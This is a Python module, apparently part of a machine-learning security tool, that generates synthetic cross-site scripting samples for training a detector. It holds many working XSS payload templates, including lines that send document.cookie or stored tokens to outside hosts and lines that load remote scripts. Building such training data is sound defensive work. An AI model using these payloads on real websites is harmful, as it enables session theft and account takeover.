@@ -1,0 +1,149 @@
+"""Cross-site scripting from a grammar: tags x event handlers x payloads x obfuscations, plus
+attribute and script-string breakouts, ``javascript:``/``data:`` URIs and polyglot shapes."""
+
+from __future__ import annotations
+
+import random
+
+from apiward.ml.generators.base import Family, Sample, case_variant, chance, encode_layer, html_entities, pick, rand_host, rand_ident, random_case, weighted
+
+_TAGS = ("img", "svg", "body", "iframe", "video", "audio", "input", "details", "marquee", "div", "a", "object", "embed", "math", "select", "textarea", "keygen", "form", "button", "isindex", "style", "table", "td", "image", "frameset", "xss", "x", "p", "span", "source", "track", "meter", "animate", "set", "title", "template", "picture", "html", "base", "link", "meta")
+_EVENTS = ("onerror", "onload", "onmouseover", "onclick", "onfocus", "onblur", "onmouseenter", "ontoggle", "onanimationstart", "onbegin", "onpageshow", "onstart", "onpointerover", "onmousedown", "onkeyup", "onkeydown", "oninput", "onchange", "onresize", "onscroll", "onwheel", "onauxclick", "ondblclick", "onfocusin", "ontransitionend", "onbeforeprint", "onhashchange", "onmessage", "onpopstate", "onsubmit", "oncopy", "onpaste", "oncut", "ondrag", "onloadstart", "onplay", "onended", "onselect")
+_SINK_CALLS = ("alert", "confirm", "prompt", "print", "eval", "console.log", "window.alert", "top.alert", "self.alert", "parent.alert", "window['alert']", "top['al'+'ert']", "setTimeout", "Function")
+
+
+def _js(rng: random.Random) -> str:
+    arg = pick(rng, ("1", "document.cookie", "document.domain", "'xss'", '"XSS"', "/xss/", "`1`", "origin", "location", "String.fromCharCode(88,83,83)", str(rng.randint(0, 9999)), "localStorage.token"))
+    roll = rng.random()
+    if roll < 0.45:
+        call = pick(rng, _SINK_CALLS)
+        if call in ("setTimeout", "Function", "eval"):
+            return f"{call}('alert({arg})')" if call != "Function" else f"Function('alert({arg})')()"
+        return f"{call}({arg})" if rng.random() < 0.85 else f"{call}`{arg.strip(chr(39))}`"
+    if roll < 0.6:
+        host = rand_host(rng)
+        return pick(rng, (
+            f"document.location='http://{host}/?c='+document.cookie",
+            f"new Image().src='//{host}/'+document.cookie",
+            f"fetch('//{host}/?'+document.cookie)",
+            f"location.href='https://{host}/steal?'+escape(document.cookie)",
+            f"navigator.sendBeacon('//{host}',document.cookie)",
+            f"window.open('//{host}/'+localStorage.getItem('token'))",
+        ))
+    if roll < 0.7:
+        return pick(rng, ("eval(atob('YWxlcnQoMSk='))", "eval(String.fromCharCode(97,108,101,114,116,40,49,41))", "[].constructor.constructor('alert(1)')()", "eval(location.hash.slice(1))", "import('//" + rand_host(rng) + "/x.js')", "top[/al/.source+/ert/.source](1)", "(alert)(1)", "a=alert,a(1)", "this['ale'+'rt'](1)", "window.onerror=alert;throw 1", "Reflect.apply(alert,null,[1])"))
+    if roll < 0.8:
+        return f"document.write('<script src=//{rand_host(rng)}/x.js></script>')" if rng.random() < 0.5 else f"document.body.innerHTML='<img src=x onerror=alert(1)>'"
+    if roll < 0.9:
+        return f"{pick(rng, _SINK_CALLS[:4])}({arg});"
+    return f"$.getScript('//{rand_host(rng)}/{rand_ident(rng)}.js')"
+
+
+def _attr_sep(rng: random.Random) -> str:
+    return pick(rng, (" ", " ", " ", "/", "\n", "\t", "  ", " /", "/x/", "\x0c", "%0a", "%09"))
+
+
+def _event_tag(rng: random.Random) -> str:
+    tag = case_variant(rng, pick(rng, _TAGS))
+    event = case_variant(rng, pick(rng, _EVENTS))
+    js = _js(rng)
+    if chance(rng, 0.15):
+        js = html_entities(rng, js, 0.6)
+    q = pick(rng, ("", '"', "'", "`")) if "'" not in js or True else ""
+    if q == "" and (" " in js or "'" in js):
+        q = '"'
+    extra = ""
+    if chance(rng, 0.6):
+        extra = _attr_sep(rng) + pick(rng, ("src=x", "src=1", "x", "autofocus", "tabindex=1", "style=animation-name:x", "open", f'id="{rand_ident(rng)}"', "href=#", "contenteditable", "src=//x", "srcdoc=1", 'width="100"'))
+    close = pick(rng, (">", ">", ">", " >", "//", "", "/>", f"></{tag}>", ">" + rand_ident(rng)))
+    return f"<{tag}{extra}{_attr_sep(rng)}{event}={q}{js}{q}{close}"
+
+
+def _script_tag(rng: random.Random) -> str:
+    open_ = case_variant(rng, pick(rng, ("script", "script", "ScRiPt", "script type=text/javascript", "script language=javascript")))
+    roll = rng.random()
+    if roll < 0.6:
+        return f"<{open_}>{_js(rng)}</{case_variant(rng, 'script')}>"
+    if roll < 0.85:
+        return f"<{open_} src={pick(rng, ('', '//', 'http://', 'https://'))}{rand_host(rng)}/{rand_ident(rng)}.js></script>"
+    return f"<{open_}>{_js(rng)}"
+
+
+def _uri(rng: random.Random) -> str:
+    scheme = pick(rng, ("javascript:", "javascript:", "JaVaScRiPt:", "java\tscript:", "jav&#x09;ascript:", "javascript&colon;", " javascript:", "vbscript:", "&#106;avascript:"))
+    payload = _js(rng)
+    roll = rng.random()
+    if roll < 0.3:
+        return f"{scheme}{payload}"
+    if roll < 0.45:
+        return f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" if rng.random() < 0.5 else f"data:text/html,<script>{payload}</script>"
+    tag = pick(rng, ("a href", "iframe src", "embed src", "object data", "form action", "button formaction", "math href", "base href", "isindex action", "input type=image src", "img src", "frame src"))
+    return f"<{case_variant(rng, tag)}={pick(rng, ('', chr(34), chr(39)))}{scheme}{payload}{pick(rng, ('', chr(34), chr(39)))}>{pick(rng, ('', 'click', 'x', rand_ident(rng)))}"
+
+
+def _breakout(rng: random.Random) -> str:
+    roll = rng.random()
+    inner = pick(rng, (_event_tag, _script_tag, _uri))(rng) if roll < 0.5 else ""
+    if roll < 0.5:
+        return pick(rng, ('">', "'>", "\">", "'/>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "</noscript>", "\"/>", "'))>", "</option></select>")) + inner
+    q = pick(rng, ('"', "'"))
+    event = pick(rng, _EVENTS)
+    js = _js(rng)
+    if roll < 0.8:
+        return f"{pick(rng, ('', rand_ident(rng), 'x'))}{q}{_attr_sep(rng)}{event}={q}{js}{pick(rng, ('', ' ' + q, q + ' x=' + q))}" if rng.random() < 0.5 else f"{q} {event}={js} {pick(rng, ('x=', 'a=', 'autofocus '))}{q}"
+    # inside a JS string
+    return pick(rng, (f"{q};{js};//", f"{q}-{js}-{q}", f"\\{q};{js}//", f"{q}+{js}+{q}", f"</script><script>{js}</script>", f"{q});{js};({q}", f"${{{js}}}"))
+
+
+def _polyglot(rng: random.Random) -> str:
+    parts = [
+        pick(rng, ("jaVasCript:", "javascript:/*-/*`/*\\`/*'/*\"/**/", "'\"-->", "\"'><", "`'\"><")),
+        pick(rng, ("/*", "(/* */", "-->", "'", "")),
+        _js(rng),
+        pick(rng, ("//", "/*", "")),
+        pick(rng, ("</stYle/</titLe/</teXtarEa/</scRipt/--!>", "</script>", "--></svg>", "</title></style></textarea>", "")),
+        pick(rng, (_event_tag, _script_tag))(rng),
+    ]
+    return "".join(parts)
+
+
+def _styled(rng: random.Random) -> str:
+    return pick(rng, (
+        f"<div style=\"background:url(javascript:{_js(rng)})\">",
+        f"<style>@import '//{rand_host(rng)}/x.css';</style>",
+        f"<x style=\"x:expression({_js(rng)})\">",
+        f"<link rel=stylesheet href=//{rand_host(rng)}/x.css>",
+        f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{_js(rng)}\">",
+        f"<style>*{{background-image:url('javascript:{_js(rng)}')}}</style>",
+        f"<svg><animate attributeName=href values=javascript:{_js(rng)} /><a><text>x</text></a>",
+        f"<svg><script>{_js(rng)}</script></svg>",
+        f"<math><mtext><table><mglyph><style><img src=x onerror={_js(rng)}>",
+        f"<iframe srcdoc=\"&lt;script&gt;{_js(rng)}&lt;/script&gt;\">",
+        f"<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+        f"{{{{constructor.constructor('{_js(rng)}')()}}}}",
+        f"<img src=\"x:x\" onerror=\"{_js(rng)}\"/>",
+    ))
+
+
+_FAMILIES: tuple[tuple[str, Family, float], ...] = (
+    ("event_tag", _event_tag, 4.0),
+    ("script_tag", _script_tag, 1.5),
+    ("uri", _uri, 1.5),
+    ("breakout", _breakout, 2.0),
+    ("polyglot", _polyglot, 0.6),
+    ("styled", _styled, 1.0),
+)
+
+
+def generate(rng: random.Random, n: int) -> list[Sample]:
+    out: list[Sample] = []
+    for _ in range(n):
+        name, fn = weighted(rng, _FAMILIES)
+        text = fn(rng)
+        if chance(rng, 0.08):
+            text = random_case(rng, text)
+        if chance(rng, 0.2):
+            # embedded in surrounding text, as in a comment field
+            text = f"{pick(rng, ('hello ', 'nice post ', 'test', rand_ident(rng) + ' ', ''))}{text}{pick(rng, ('', ' thanks', ' ' + rand_ident(rng)))}"
+        out.append(Sample(encode_layer(rng, text), "xss", name))
+    return out
